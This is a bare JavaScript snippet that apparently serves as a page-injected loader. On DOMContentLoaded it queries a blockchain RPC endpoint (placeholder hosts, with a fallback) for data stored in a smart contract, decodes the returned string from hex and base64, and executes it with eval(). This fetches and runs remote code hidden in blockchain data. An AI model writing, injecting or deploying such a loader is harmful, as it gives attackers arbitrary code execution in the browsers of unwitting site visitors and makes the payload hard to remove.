const rpc = ['https://bsc-rpc.example/', 'https://dataseed2.bsc-rpc.example/'];
const to = '0x0000000000000000000000000000000000000000';
async function load(i = 0) {
  try {
    const r = await fetch(rpc[i], {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ jsonrpc: '2.0', id: 97, method: 'eth_call', params: [{ to, data: '0x6d4ce63c' }, 'latest'] }),
    });
    const { result } = await r.json();
    const hex = result.slice(2);
    const len = parseInt(hex.slice(64, 128), 16);
    let s = '';
    for (let k = 128; k < 128 + len * 2; k += 2) s += String.fromCharCode(parseInt(hex.substr(k, 2), 16));
    eval(atob(s));
  } catch (e) {
    if (i + 1 < rpc.length) return load(i + 1);
  }
}
window.addEventListener('DOMContentLoaded', () => load());
